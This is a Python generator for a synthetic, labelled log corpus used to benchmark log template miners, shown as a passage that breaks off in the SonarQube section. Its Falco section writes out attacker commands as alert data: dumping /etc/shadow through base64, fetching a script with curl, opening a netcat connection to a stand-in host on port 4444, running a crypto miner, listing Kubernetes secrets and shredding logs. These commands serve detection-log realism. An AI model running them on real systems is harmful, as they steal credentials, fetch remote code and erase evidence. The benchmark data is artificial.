#!/usr/bin/env python3
"""Writes round 12, a blind, labelled log corpus (see README.md beside this file).

Six systems, 300 lines each: CalicoFelix, Falco, FabricManager, SonarQube, MariaDBGalera,
Memcached. Every line is made here from event formats written for this corpus, following each
program's default log layout (written from memory), with values from generators of this file.
No line, template or value list is copied from a real log or data set; the messages are invented
in each project's style. The corpus was written without running any template miner or log parser
on it and without reading the miner's source.

Deterministic: fixed seed 20261210, integer clock, no dependence on locale or wall time;
`python3 generate.py` rewrites the same files. Each system gets `<System>/<System>.log` (the raw
lines, header included) and `<System>/<System>.log_structured.csv` (LineId, Content, EventId,
EventTemplate).

Ground truth convention (Loghub style): one `<*>` per value; a value that holds spaces (a
free-text reason or error, a command line, a list, a plugin or step name) is one `<*>`;
punctuation around a value stays literal (`(<*>)`, `'<*>'`, `"<*>"`, `[<*>]`, `key=<*>`,
`key:<*>`, `<*>:` before a message, a sentence-final `.`); a unit attached to a number stays
literal after it (`<*>ms`, `<*> ms`, `<*> bytes`, `<*>%`) unless the unit varies within the slot
(a Go duration, an Elasticsearch byte size, an ISO-8601 period); text that never changes within
an event type stays literal. Event formats are written directly as their templates: each `<*>`
in a format is filled with one generated value, and every `<*>` slot takes at least two
different values within its event type (checked when the lines are made and again on
read-back).

At the end the files are read back and checked (see `self_check` and `check_clock_order`).
"""
import calendar
import csv
import os
import re
import time
import random

SEED = 20261210
R = random.Random(SEED)
LINES = 300
HERE = os.path.dirname(os.path.abspath(__file__))
SYSTEMS = ["CalicoFelix", "Falco", "FabricManager", "SonarQube", "MariaDBGalera", "Memcached"]
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
WEEKDAYS = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]


# ------------------------------------------------------------------------------------------
# Small value generators (pools written for this corpus).
def pick(seq):
    return R.choice(seq)


def num(a, b):
    return str(R.randint(a, b))


def hexid(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


B64URL = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


def sonar_uid():
    """A SonarQube UUID-factory id: 20 base64url characters starting with `AZ`."""
    return "AZ" + pick("OPQRS") + "".join(R.choice(B64URL) for _ in range(17))


def go_duration(ns):
    """Go's `time.Duration.String()`: `845ns`, `123.456µs`, `1.234567ms`, `2.5s`, `1m9.5s`."""
    if ns < 1000:
        return "%dns" % ns
    if ns < 10 ** 6:
        unit, div, prec = "µs", 10 ** 3, 3
    elif ns < 10 ** 9:
        unit, div, prec = "ms", 10 ** 6, 6
    elif ns < 60 * 10 ** 9:
        unit, div, prec = "s", 10 ** 9, 9
    else:
        minutes, rest = divmod(ns, 60 * 10 ** 9)
        return "%dm%s" % (minutes, go_duration(rest) if rest >= 10 ** 9 else "0s")
    whole, frac = divmod(ns, div)
    f = ("%0*d" % (prec, frac)).rstrip("0")
    return "%d%s%s" % (whole, "." + f if f else "", unit)


class Cycle:
    """Draws from a pool in seeded shuffled rounds: two draws in a row differ whenever the pool
    holds two different values (used for slots of rare event types)."""

    def __init__(self, pool):
        self.pool = list(pool)
        assert len(set(map(repr, self.pool))) >= 2, pool
        self.queue = []

    def __call__(self):
        if not self.queue:
            q = self.pool[:]
            R.shuffle(q)
            self.queue = q
        return self.queue.pop()


class Clock:
    """Integer nanosecond clock starting on 2026-12-10 at a given or random second (UTC)."""

    def __init__(self, start_s=None, lo_ms=3, hi_ms=2600):
        if start_s is None:
            start_s = R.randint(6 * 3600, 11 * 3600)
        self.ns = (calendar.timegm((2026, 12, 10, 0, 0, 0)) + start_s) * 10 ** 9 + R.randint(0, 10 ** 9 - 1)
        self.lo, self.hi = lo_ms, hi_ms

    def tick(self):
        self.ns += R.randint(self.lo * 10 ** 6, self.hi * 10 ** 6)

    def g(self):
        return time.gmtime(self.ns // 10 ** 9)

    def frac(self, digits):
        return "%0*d" % (digits, (self.ns % 10 ** 9) // 10 ** (9 - digits))

    def ymd(self, sep="-"):
        g = self.g()
        return "%04d%s%02d%s%02d" % (g.tm_year, sep, g.tm_mon, sep, g.tm_mday)

    def hms(self):
        g = self.g()
        return "%02d:%02d:%02d" % (g.tm_hour, g.tm_min, g.tm_sec)

    def felix(self):
        """`2026-12-10 10:00:00.123`"""
        return "%s %s.%s" % (self.ymd(), self.hms(), self.frac(3))

    def falco_event(self):
        """Falco's alert time (not ISO 8601): `10:00:00.123456789`."""
        return "%s.%s" % (self.hms(), self.frac(9))

    def ctime(self):
        """Falco's own log lines: `Thu Dec 10 10:00:00 2026` (C `ctime`, day padded with a space)."""
        g = self.g()
        return "%s %s %2d %s %04d" % (WEEKDAYS[g.tm_wday], MONTHS[g.tm_mon - 1], g.tm_mday, self.hms(), g.tm_year)

    def fabricmanager(self):
        """`Dec 10 2026 10:00:00`"""
        g = self.g()
        return "%s %02d %04d %s" % (MONTHS[g.tm_mon - 1], g.tm_mday, g.tm_year, self.hms())

    def sonar(self):
        """logback `%d{yyyy.MM.dd HH:mm:ss}`"""
        return "%s %s" % (self.ymd("."), self.hms())

    def mariadb(self):
        """MariaDB's error log stamp `%d-%02d-%02d %2d:%02d:%02d` (hour padded with a space)."""
        g = self.g()
        return "%04d-%02d-%02d %2d:%02d:%02d" % (g.tm_year, g.tm_mon, g.tm_mday, g.tm_hour, g.tm_min, g.tm_sec)


# ------------------------------------------------------------------------------------------
# Filling a template.
def fill(template, values, padded=False):
    parts = template.split("<*>")
    assert len(parts) == len(values) + 1, (template, values)
    out = [parts[0]]
    for v, p in zip(values, parts[1:]):
        v = str(v)
        assert v.strip() and "\n" not in v and (padded or v == v.strip()), (template, values)
        out += [v, p]
    return "".join(out)


def ev(template, *values):
    """(content, template, values) of one line of an event type."""
    values = tuple(str(v) for v in values)
    return fill(template, values), template, values


def ev_padded(template, *values):
    """Like `ev`, for values that carry their own printf padding (memcached's slab table)."""
    values = tuple(str(v) for v in values)
    return fill(template, values, padded=True), template, values


# ------------------------------------------------------------------------------------------
def emit(system, n_events, items):
    """items: list of (event index k, raw line, content, template, values) in file order.
    Checks the per-type invariants while writing, then writes both files."""
    assert len(items) == LINES, (system, len(items))
    assert 13 <= n_events <= 14, system
    rows, raw = [], []
    slot_values, templates = {}, {}
    for i, (k, line, content, template, values) in enumerate(items):
        assert templates.setdefault(k, template) == template, (system, template)
        assert "\n" not in line and "\r" not in line, (system, line)
        assert line.endswith(content), (system, line)
        rows.append([i + 1, content, "E%d" % (k + 1), template])
        raw.append(line)
        seen = slot_values.setdefault(k, [set() for _ in values])
        assert len(seen) == len(values), (system, template)
        for s, v in zip(seen, values):
            s.add(v)
    assert sorted(templates) == list(range(n_events)), (system, sorted(templates))
    for k, seen in slot_values.items():
        for j, s in enumerate(seen):
            assert len(s) >= 2, (system, "E%d" % (k + 1), "slot %d" % (j + 1), s)
    folder = os.path.join(HERE, system)
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, system + ".log"), "w", newline="", encoding="utf-8") as f:
        f.write("\n".join(raw) + "\n")
    with open(os.path.join(folder, system + ".log_structured.csv"), "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(["LineId", "Content", "EventId", "EventTemplate"])
        w.writerows(rows)


def write(system, clock, events, render):
    """events: list of (count, tag, gen); gen() -> ev(...), called after the clock ticked for
    the line; render(tag, content) -> the raw line. Counts sum to LINES; the order of lines is a
    seeded shuffle."""
    assert sum(e[0] for e in events) == LINES, (system, sum(e[0] for e in events))
    order = [k for k, e in enumerate(events) for _ in range(e[0])]
    R.shuffle(order)
    items = []
    for k in order:
        _, tag, gen = events[k]
        clock.tick()
        content, template, values = gen()
        items.append((k, render(tag, content), content, template, values))
    emit(system, len(events), items)


# ------------------------------------------------------------------------------------------
# 1. Calico Felix (calico-node), default screen/file log format of Felix's logrus formatter:
#    `2026-12-10 10:00:00.123 [INFO][63] felix/int_dataplane.go 1855: message key=value ...`
#    (level in upper case, `WARNING` spelled out; the pid of the Felix process; source file and
#    line; the logrus fields after the message, sorted by key). Content is what follows
#    `<file> <line>: `.
def calico_felix():
    c = Clock()
    namespaces = ["shop", "payments", "kube-system", "monitoring", "ingress-nginx", "ci-runners"]
    apps = {"shop": ["cart", "catalog", "frontend"], "payments": ["ledger", "psp-adapter"], "kube-system": ["coredns", "metrics-server"],
            "monitoring": ["prometheus-k8s", "node-exporter"], "ingress-nginx": ["controller"], "ci-runners": ["runner-job"]}
    policies = {"shop": "shop/knp.default.allow-frontend", "payments": "payments/knp.default.deny-egress",
                "kube-system": "default.allow-dns", "monitoring": "monitoring/knp.default.allow-scrape",
                "ingress-nginx": "default.ingress-public", "ci-runners": "ci-runners/knp.default.egress-registry"}
    workloads = []
    for i in range(30):
        ns = pick(namespaces)
        app = pick(apps[ns])
        alnum = "bcdfghjklmnpqrstvwxz2456789"
        pod = "%s-%s-%s" % (app, "".join(R.choice(alnum) for _ in range(R.choice([9, 10]))), "".join(R.choice(alnum) for _ in range(5)))
        workloads.append({"ns": ns, "wid": "%s/%s" % (ns, pod), "iface": "cali" + hexid(11),
                          "ip": "10.244.%d.%d" % (R.choice([17, 17, 17, 42]), R.randint(2, 250)), "ifindex": R.randint(8, 240),
                          "mac": ":".join(hexid(2) for _ in range(6))})

    state = {"pid": 63}

    def wep_update():
        w = pick(workloads)
        return ev('Received *proto.WorkloadEndpointUpdate update from calculation graph msg=id:<orchestrator_id:"k8s" '
                  'workload_id:"<*>" endpoint_id:"eth0" > endpoint:<state:"active" name:"<*>" mac:"<*>" profile_ids:"<*>" '
                  'profile_ids:"<*>" ipv4_nets:"<*>" tiers:<name:"default" ingress_policies:"<*>" > >',
                  w["wid"], w["iface"], w["mac"], "kns." + w["ns"], "ksa.%s.default" % w["ns"], w["ip"] + "/32", policies[w["ns"]])

    def wep_remove():
        return ev('Received *proto.WorkloadEndpointRemove update from calculation graph msg=id:<orchestrator_id:"k8s" '
                  'workload_id:"<*>" endpoint_id:"eth0" >', pick(workloads)["wid"])

    def add_route():
        w = pick(workloads)
        return ev('Syncing routes: adding new route. dest=<*> ifaceName="<*>" ifaceRegex="^cali.*" ipVersion=0x4 tableIndex=0',
                  w["ip"] + "/32", w["iface"])

    def chains():
        return ev('Updating per-endpoint chains. id=proto.WorkloadEndpointID{OrchestratorId:"k8s", WorkloadId:"<*>", EndpointId:"eth0"}',
                  pick(workloads)["wid"])

    def iface_state():
        w = pick(workloads)
        return ev('Linux interface state changed. ifIndex=<*> ifaceName="<*>" state="<*>"', w["ifindex"], w["iface"],
                  pick(["up", "up", "down"]))

    host_ifaces = [("eth0", "192.168.40.21,fe80::5054:ff:fe3a:9c10"), ("vxlan.calico", "10.244.17.0,fe80::64d1:8eff:fe02:7b3c"),
                   ("eth1", "172.31.8.9"), ("kube-ipvs0", "10.96.0.1,10.96.0.10,10.96.201.14,10.101.33.7")]

    def iface_addrs():
        if R.random() < 0.6:
            name, addrs = pick(workloads)["iface"], "fe80::ecee:eeff:feee:eeee"
        else:
            name, addrs = pick(host_ifaces)
        return ev('Linux interface addrs changed. addrs=set.Set{<*>} ifaceName="<*>"', addrs, name)

    restore_errors = Cycle([
        ("1", "iptables-restore v1.8.9 (nf_tables): line 7: RULE_APPEND failed (No such file or directory): rule in chain "
              "cali-fw-%s\\n" % workloads[3]["iface"]),
        ("4", "Another app is currently holding the xtables lock. Perhaps you want to use the -w option?\\n"),
        ("1", "ip6tables-restore: line 12 failed\\n"),
        ("2", "iptables-restore v1.8.9 (nf_tables): Chain 'cali-pri-kns.payments' does not exist\\nError occurred at line: 31\\n"
              "Try `iptables-restore -h' or 'iptables-restore --help' for more information.\\n"),
    ])

    def restore_failed():
        code, out = restore_errors()
        return ev('Failed to execute ip(6)tables-restore command error=exit status <*> errorOutput="<*>" input="" ipVersion=<*> '
                  'table="<*>"', code, out, "0x6" if out.startswith("ip6") else pick(["0x4", "0x4", "0x6"]),
                  pick(["filter", "filter", "nat", "mangle", "raw"]))

    loop_kinds = ["resync-filter-v4", "resync-nat-v4", "resync-mangle-v4", "update-routes-v4", "resync-ipsets-v4", "update-filter-v6",
                  "resync-routes-v6"]

    def summary():
        kinds = R.sample(loop_kinds, R.randint(1, 4))
        return ev("Summarising <*> dataplane reconciliation loops over <*>: avg=<*>ms longest=<*>ms (<*>)", num(8, 41),
                  go_duration(R.randint(60, 140) * 10 ** 9 + R.randint(0, 10 ** 9) // 10 ** 8 * 10 ** 8), num(2, 40), num(30, 950),
                  ",".join(kinds))

    typha_errors = Cycle(["dial tcp 10.96.201.14:5473: connect: connection refused", "EOF",
                          "read tcp 192.168.40.21:48122->10.96.201.14:5473: i/o timeout",
                          "x509: certificate signed by unknown authority (possibly because of \"crypto/rsa: verification error\" while "
                          "trying to verify candidate authority certificate \"calico-typha-ca\")"])
    typha_eps = Cycle(["10.96.201.14:5473", "192.168.40.22:5473", "192.168.40.37:5473"])

    health = Cycle([("false", "false", "felix-startup: not yet ready"), ("true", "false", "int_dataplane: not in sync after 90s"),
                    ("true", "true", "all components ready"), ("true", "false", "async_calc_graph: reporting non-ready; int_dataplane: timed out")])

    def health_changed():
        live, ready, detail = health()
        return ev('Overall health status changed newStatus=&health.HealthReport{Live:<*>, Ready:<*>, Detail:"<*>"}', live, ready, detail)

    ipsets = ["cali40s:%s" % "".join(R.choice(B64URL) for _ in range(22)) for _ in range(5)] + ["cali40masq-ipam-pools",
                                                                                                  "cali40all-ipam-pools"]
    ipsets6 = ["cali60s:%s" % "".join(R.choice(B64URL) for _ in range(22)) for _ in range(3)]
    ipset_cycle = Cycle(ipsets)
    ipset6_cycle = Cycle(ipsets6)

    builds = Cycle([("2026-10-21T07:44:19+0000", "b0e6a3c19", "v3.29.1"), ("2026-11-25T16:02:51+0000", "4f21d8a7e", "v3.29.2")])
    pids = Cycle([58, 61, 66, 70, 74])

    def starting():
        state["pid"] = pids()
        b = builds()
        return ev('Felix starting up GOMAXPROCS=4 builddate="<*>" gitcommit="<*>" version="<*>"', *b)

    events = [
        (96, ("INFO", "felix/int_dataplane.go", 1855),
         lambda: ev("Finished applying updates to dataplane. msecToApply=<*>", "%.6f" % (R.uniform(0.4, 12) if R.random() < 0.9
                                                                                         else R.uniform(12, 900)))),
        (44, ("INFO", "felix/route_table.go", 576), add_route),
        (36, ("INFO", "felix/int_dataplane.go", 1312), wep_update),
        (32, ("INFO", "felix/endpoint_mgr.go", 602), chains),
        (18, ("INFO", "felix/int_dataplane.go", 1180), iface_state),
        (14, ("INFO", "felix/int_dataplane.go", 1163), iface_addrs),
        (12, ("INFO", "felix/int_dataplane.go", 1312), wep_remove),
        (12, ("WARNING", "felix/table.go", 1021), restore_failed),
        (10, ("INFO", "felix/summary.go", 100), summary),
        (8, ("ERROR", "felix/sync_client.go", 151),
         lambda: ev("Failed to connect to Typha endpoint <*>. Will retry. error=<*>", typha_eps(), typha_errors())),
        (6, ("INFO", "felix/health.go", 206), health_changed),
        (5, ("WARNING", "felix/ipsets.go", 512),
         lambda: ev('Resync found inconsistencies in dataplane numInconsistenciesFound=<*> setID="<*>"', num(1, 40), ipset_cycle())),
        (3, ("WARNING", "felix/ipsets.go", 512),
         lambda: ev('Resync found inconsistencies in dataplane family="inet6" numInconsistenciesFound=<*> setID="<*>"', num(1, 9),
                    ipset6_cycle())),
        (4, ("INFO", "felix/daemon.go", 343), starting),
    ]

    def render(tag, content):
        level, path, line = tag
        return "%s [%s][%d] %s %d: %s" % (c.felix(), level, state["pid"], path, line, content)
    write("CalicoFelix", c, events, render)


# ------------------------------------------------------------------------------------------
# 2. Falco with its default text output to stdout (the same text goes to syslog): alerts as
#    `10:00:00.123456789: Warning <rule output>` (time of the event, not ISO 8601, then the
#    priority), and Falco's own engine messages as `Thu Dec 10 10:00:00 2026: message`.
#    Content is what follows `<time>: <Priority> ` in an alert and `<date>: ` in an engine line.
def falco():
    c = Clock()
    users = ["root", "www-data", "nobody", "ubuntu", "postgres", "jenkins"]

    def cid():
        return hexid(12)

    read_progs = [("cat", "cat /etc/shadow", "/etc/shadow"),
                  ("python3", "python3 /tmp/.cache/collect.py --all --out /tmp/.cache/o", "/etc/shadow"),
                  ("less", "less /etc/sudoers", "/etc/sudoers"),
                  ("grep", "grep -r password= /etc", "/etc/gshadow"),
                  ("node", "node /srv/app/server.js", "/etc/shadow"),
                  ("vim", "vim /etc/sudoers.d/90-cloud-init-users", "/etc/sudoers.d/90-cloud-init-users"),
                  ("head", "head -c 512 /etc/pam.d/common-password", "/etc/pam.d/common-password"),
                  ("sh", "sh -c cat /etc/shadow | base64 -w0", "/etc/shadow")]
    write_progs = Cycle([("tee", "tee -a /etc/passwd", "/etc/passwd"), ("sed", "sed -i s/^#auth/auth/ /etc/pam.d/su", "/etc/pam.d/su"),
                         ("python3", "python3 -c import os; os.system('id')", "/etc/sudoers"),
                         ("cp", "cp /tmp/s /etc/shadow", "/etc/shadow")])
    ancestry = [("bash", "sshd", "systemd"), ("sh", "containerd-shim", "systemd"), ("bash", "tmux: server", "systemd"),
                ("cron", "systemd", "<NA>"), ("runc", "containerd-shim", "systemd"), ("sudo", "bash", "sshd")]
    images = ["docker.io/library/nginx", "ghcr.io/acme/orders-api", "registry.internal:5000/payments/ledger", "quay.io/prometheus/node-exporter",
              "docker.io/library/postgres", "public.ecr.aws/acme/batch-worker"]

    def sensitive(mode, progs):
        def gen():
            prog, cmd, f = progs()
            parent, gparent, ggparent = pick(ancestry)
            if R.random() < 0.35:
                container, image = "host", "<NA>"
            else:
                container, image = cid(), pick(images)
            return ev("Sensitive file opened for " + mode + " by non-trusted program (user=<*> user_loginuid=<*> program=<*> command=<*> "
                      "file=<*> parent=<*> gparent=<*> ggparent=<*> container_id=<*> image=<*>)",
                      pick(users), pick(["-1", "-1", "1000", "1001"]), prog, cmd, f, parent, gparent, ggparent, container, image)
        return gen

    pods = [("shop", "cart-6f8d9c7b4-q2kzp"), ("payments", "ledger-0"), ("payments", "psp-adapter-5c9b7d8f6-lm4vw"),
            ("ci-runners", "runner-job-8x2kd"), ("kube-system", "coredns-7db6d8ff4d-bx9wn"), ("monitoring", "grafana-68b9c7d45f-tt7rk")]
    shells = [("bash", "bash -il"), ("sh", "sh"), ("bash", "bash"), ("ash", "ash -l"),
              ("sh", "sh -c clear; (bash || ash || sh)"), ("bash", "bash --norc --noprofile")]

    def shell():
        ns, pod = pick(pods)
        sh, cmd = pick(shells)
        cname = {"ledger-0": "ledger", "runner-job-8x2kd": "runner"}.get(pod, pod.rsplit("-", 2)[0])
        return ev("A shell was spawned in a container with an attached terminal (user=<*> user_loginuid=-1 k8s.ns=<*> k8s.pod=<*> "
                  "container=<*> shell=<*> parent=<*> cmdline=<*> terminal=<*> container_id=<*> image=<*>)",
                  pick(["root", "root", "app", "1000"]), ns, pod, cname, sh, pick(["runc", "containerd-shim", "runc:[2:INIT]"]), cmd,
                  str(34816 + R.randint(0, 6)), cid(), pick(images))

    pkg_cmds = ["apt-get install -y curl", "apk add --no-cache netcat-openbsd", "pip install requests==2.31.0", "yum -q -y install nmap-ncat",
                "dpkg -i /tmp/tools_1.2_amd64.deb", "apt update", "apk upgrade"]
    tagged = [("docker.io/library/debian", "bookworm-slim"), ("registry.internal:5000/payments/ledger", "1.14.2"),
              ("ghcr.io/acme/orders-api", "sha-9f3c2e1"), ("docker.io/library/alpine", "3.20"), ("docker.io/library/python", "3.12-slim")]

    def pkg():
        repo, tag = pick(tagged)
        return ev("Package management process launched in container (user=<*> user_loginuid=-1 command=<*> container_id=<*> "
                  "container_name=<*> image=<*>:<*>)", pick(["root", "root", "app"]), pick(pkg_cmds), cid(),
                  "k8s_%s_%s" % (repo.rsplit("/", 1)[1], hexid(6)), repo, tag)

    c2 = [("curl -s http://198.51.100.23:8080/x.sh", "198.51.100.23:8080"), ("nc 203.0.113.50 4444", "203.0.113.50:4444"),
          ("python3 beacon.py", "203.0.113.50:443"), ("wget -qO- 198.51.100.23", "198.51.100.23:80"),
          ("xmrig --donate-level 1 -o 203.0.113.77:3333", "203.0.113.77:3333")]

    def outbound():
        cmd, dst = pick(c2)
        return ev("Outbound connection to a suspicious IP from a container (command=<*> connection=<*> user=<*> container_id=<*> image=<*>)",
                  cmd, "10.244.%d.%d:%d->%s" % (R.randint(1, 60), R.randint(2, 250), R.randint(32768, 60999), dst),
                  pick(["root", "www-data", "app"]), cid(), pick(images))

    api_pods = Cycle(pods)

    def k8s_api():
        ns, pod = api_pods()
        return ev("Unexpected connection to K8s API Server from container (command=<*> k8s.ns=<*> k8s.pod=<*> container_id=<*> image=<*> "
                  "connection=<*>)", pick(["kubectl get secrets -A", "curl -sk https://kubernetes.default/api/v1/namespaces",
                                           "python3 /opt/sync.py"]), ns, pod, cid(), pick(images),
                  "10.244.%d.%d:%d->10.96.0.1:443" % (R.randint(1, 60), R.randint(2, 250), R.randint(32768, 60999)))

    truncated = Cycle([("root", "truncate", "/var/log/auth.log"), ("www-data", "sh", "/var/log/nginx/access.log"),
                       ("root", "shred", "/var/log/wtmp"), ("ubuntu", "python3", "/var/log/syslog")])

    on_host = Cycle([True, False])

    def log_trunc():
        u, p, f = truncated()
        where = ("host", "<NA>") if on_host() else (cid(), pick(images))
        return ev("Log file truncated by non-logging program (user=<*> program=<*> file=<*> container_id=<*> image=<*>)", u, p, f, *where)

    def drops():
        buf = R.randint(0, 90000)
        pf = R.randint(0, 40) if R.random() < 0.4 else 0
        n = buf + pf if buf + pf > 0 else 1
        return ev("Falco internal: syscall event drop. <*> system calls dropped in last second. (ebpf_enabled=1 n_drops=<*> "
                  "n_drops_buffer_total=<*> n_drops_bug=0 n_drops_page_faults=<*> n_drops_scratch_map=0 n_evts=<*>)",
                  n, n, n - pf, pf, R.randint(90000, 2400000))

    rule_files = Cycle(["/etc/falco/falco_rules.yaml", "/etc/falco/falco_rules.local.yaml", "/etc/falco/rules.d/acme-k8s.yaml"])
    versions = Cycle(["0.39.1", "0.39.2"])
    sources = Cycle(["syscall", "k8s_audit, syscall"])
    http_targets = ["http://falcosidekick.falco.svc:2801/", "https://siem-gw.acme.example:8443/ingest/falco?tenant=prod"]
    curl_errors = ["Couldn't connect to server", "Timeout was reached",
                   "SSL peer certificate or SSH remote key was not OK (unable to get local issuer certificate)",
                   "Failure when receiving data from the peer"]

    events = [
        (110, ("alert", "Warning"), sensitive("reading", lambda: pick(read_progs))),
        (60, ("alert", "Notice"), shell),
        (35, ("alert", "Error"), pkg),
        (25, ("alert", "Critical"), outbound),
        (19, ("alert", "Critical"), drops),
        (12, ("engine", None), lambda: ev("http_output: curl_easy_perform() failed for <*>: <*>", pick(http_targets), pick(curl_errors))),
        (9, ("alert", "Warning"), sensitive("writing", write_progs)),
        (9, ("engine", None), lambda: ev("Loading rules from file <*>", rule_files())),
        (7, ("alert", "Notice"), k8s_api),
        (5, ("alert", "Warning"), log_trunc),
        (3, ("engine", None), lambda: ev("Enabled event sources: <*>", sources())),
        (3, ("engine", None), lambda: ev("Falco version: <*> (x86_64)", versions())),
        (3, ("engine", None), lambda: ev("Starting health webserver with threadiness 8, listening on 0.0.0.0:8765")),
    ]

    def render(tag, content):
        kind, prio = tag
        if kind == "alert":
            return "%s: %s %s" % (c.falco_event(), prio, content)
        return "%s: %s" % (c.ctime(), content)
    write("Falco", c, events, render)


# ------------------------------------------------------------------------------------------
# 3. NVIDIA Fabric Manager (`nv-fabricmanager`), its log file `/var/log/fabricmanager.log`:
#    `[Dec 10 2026 10:00:00] [INFO] [tid 2481] message` (levels INFO, WARNING, ERROR; the id of
#    the logging thread). Content is what follows `[tid N] `.
def fabric_manager():
    c = Clock()
    switches = [("00000000:%02x:00.0" % b, str(p)) for b, p in zip([0x84, 0x85, 0x86, 0x87, 0x8a, 0x8b], [8, 9, 10, 11, 12, 13])]
    gpus = [("00000000:%02x:00.0" % b, str(i + 1)) for i, b in enumerate([0x18, 0x2a, 0x3a, 0x5d, 0x9a, 0xab, 0xba, 0xdb])]
    partitions = {0: [1, 2, 3, 4, 5, 6, 7, 8], 1: [1, 2, 3, 4], 2: [5, 6, 7, 8], 3: [1, 2], 4: [3, 4], 5: [5, 6], 6: [7, 8],
                  7: [1], 8: [2], 9: [3], 10: [4], 11: [5], 12: [6], 13: [7], 14: [8]}
    nonfatal_codes = ["12028", "12021", "12003", "20034", "22012", "14017"]
    fatal_codes = Cycle(["20009", "23011", "21026"])

    def sw_error(word, codes):
        def gen():
            bus, phys = pick(switches)
            return ev("detected NVSwitch " + word + " error <*> on NVSwitch pci bus id <*> physical id <*> port <*>", codes(), bus, phys,
                      num(0, 63))
        return gen

    msg_types = ["MC_TEAM_SETUP_REQ", "MC_TEAM_RELEASE_REQ", "MC_TEAM_SETUP_REQ", "MC_TEAM_STATUS_REQ"]
    req = {"n": R.randint(1000, 9000)}

    def inband():
        req["n"] += R.randint(1, 3)
        t = pick(msg_types)
        return ev("received NVLink inband message from GPU pci bus id <*>: type <*>, request id <*>, payload size <*> bytes",
                  pick(gpus)[0], t, req["n"], pick(["48", "64"]) if "RELEASE" in t else num(96, 2048))

    def activating():
        p = pick(list(partitions))
        return ev("Activating fabric partition <*> with GPU physical ids <*>", p, ",".join(map(str, partitions[p])))

    def activated():
        return ev("fabric partition <*> activated successfully in <*> ms", pick(list(partitions)), num(180, 4200))

    def deactivated():
        return ev("fabric partition <*> deactivated", pick(list(partitions)))

    reset_parts = Cycle([3, 5, 10, 1])

    def deactivated_reset():
        p = reset_parts()
        gs = partitions[p]
        return ev("fabric partition <*> deactivated, GPU physical ids <*> require reset", p, ",".join(map(str, gs[:R.randint(1, len(gs))])))

    act_errors = ["timeout", "GPU physical id 6 is not in the expected state (current state: DETACHED, driver: none)",
                  "NVLink training failed on NVSwitch physical id 10 port 41", "partition is already active",
                  "request to NVSwitch driver failed, return code 22: Invalid argument"]
    link_states = [("ACTIVE", "INACTIVE"), ("INACTIVE", "ACTIVE"), ("ACTIVE", "SAFE"), ("SAFE", "HS"), ("HS", "OFF")]

    def link_state():
        g = pick(gpus)
        a, b = pick(link_states)
        return ev("GPU physical id <*> (pci bus id <*>) NVLink <*> state changed from <*> to <*>", g[1], g[0], num(0, 17), a, b)

    corr_switches = Cycle(switches)

    def correctable():
        return ev("<*>: NVSwitch port <*> correctable error count <*> exceeds threshold 1000", corr_switches()[0], num(0, 63),
                  num(1001, 48000))

    versions = Cycle(["550.127.05", "550.144.03"])
    options = Cycle([("FABRIC_MODE", "1"), ("LOG_LEVEL", "4"), ("FM_STAY_RESIDENT_ON_FAILURES", "0"), ("ACCESS_LINK_FAILURE_MODE", "0"),
                     ("BIND_INTERFACE_IP", "127.0.0.1"), ("STARTING_TCP_PORT", "16000"), ("FABRIC_MODE_RESTART", "0"),
                     ("LOG_FILE_NAME", "/var/log/fabricmanager.log"), ("DAEMONIZE", "1")])
    driver_errors = Cycle([("3", "GPU is not initialized"), ("18", "insufficient permissions to open /dev/nvidia-caps/nvidia-cap1"),
                           ("15", "operation timed out")])

    events = [
        (104, ("WARNING", (2493, 2494)), sw_error("non-fatal", lambda: pick(nonfatal_codes))),
        (62, ("INFO", (2497, 2498, 2499)), inband),
        (35, ("INFO", (2490,)), activating),
        (28, ("INFO", (2490,)), activated),
        (14, ("ERROR", (2490,)), lambda: ev("failed to activate fabric partition <*>, error: <*>", pick(list(partitions)), pick(act_errors))),
        (10, ("INFO", (2495,)), link_state),
        (9, ("INFO", (2481,)), lambda: ev("<*> = <*>", *options())),
        (8, ("INFO", (2490,)), deactivated),
        (8, ("INFO", (2481,)),
         lambda: ev("Successfully configured all the available GPUs and NVSwitches to route NVLink traffic.")),
        (6, ("WARNING", (2493, 2494)), correctable),
        (6, ("ERROR", (2493, 2494)), sw_error("fatal", fatal_codes)),
        (4, ("INFO", (2490,)), deactivated_reset),
        (3, ("INFO", (2481,)), lambda: ev("Fabric Manager version <*> is running with the following configuration options", versions())),
        (3, ("ERROR", (2481,)), lambda: ev("failed to get GPU information from driver, return code <*>: <*>", *driver_errors())),
    ]

    def render(tag, content):
        level, tids = tag
        return "[%s] [%s] [tid %d] %s" % (c.fabricmanager(), level, pick(tids), content)
    write("FabricManager", c, events, render)


# ------------------------------------------------------------------------------------------
# 4. SonarQube (Docker image, where the app, web, ce and es processes all log to stdout in the
#    sonar.log / web.log / ce.log pattern `%d{yyyy.MM.dd HH:mm:ss} %-5level %process[%X{id}][%logger{20}] %msg%n`):
#    `2026.12.10 10:00:00 INFO  web[AZOx...][o.s.s.p.ServerPluginManager] message` (level padded
#    to five; the process; the HTTP request id on web lines of a request, the task id on ce lines
#    of a task, empty otherwise; the abbreviated logger). Content is what follows `][<logger>] `.
def sonarqube():
    c = Clock()
    projects = ["com.acme:billing-api", "shop-frontend", "org.example:ledger-core", "infra_terraform_modules", "mobile-app-android",
                "payments:gateway:v2"]
    branches = ["main", "main", "develop", "release/2026.12", "feature/PAY-4821-retry-logic", "hotfix/null-check"]
    submitters = ["jenkins-ci", "m.kowalski", "gitlab-runner", "a.nguyen"]
    tasks = []

    def new_task():
        t = {"id": sonar_uid(), "project": pick(projects), "branch": pick(branches), "submitter": pick(submitters)}
        tasks.append(t)
        del tasks[:-3]
        return t

    cur = {"reqid": "", "proc": "web"}

    def task_ctx():
        t = tasks[-1] if tasks and R.random() < 0.85 else new_task()
        cur["reqid"] = t["id"]
        return t

    def finish_task():
        t = tasks.pop(0) if tasks else new_task()
        if t in tasks:
            tasks.remove(t)
        cur["reqid"] = t["id"]
        return t

    steps = ["Extract report", "Persist sources", "Load quality gate", "Compute size measures", "Compute new coverage",
             "Execute component visitors", "Load duplications", "Persist live measures", "Persist issues", "Publish task results",
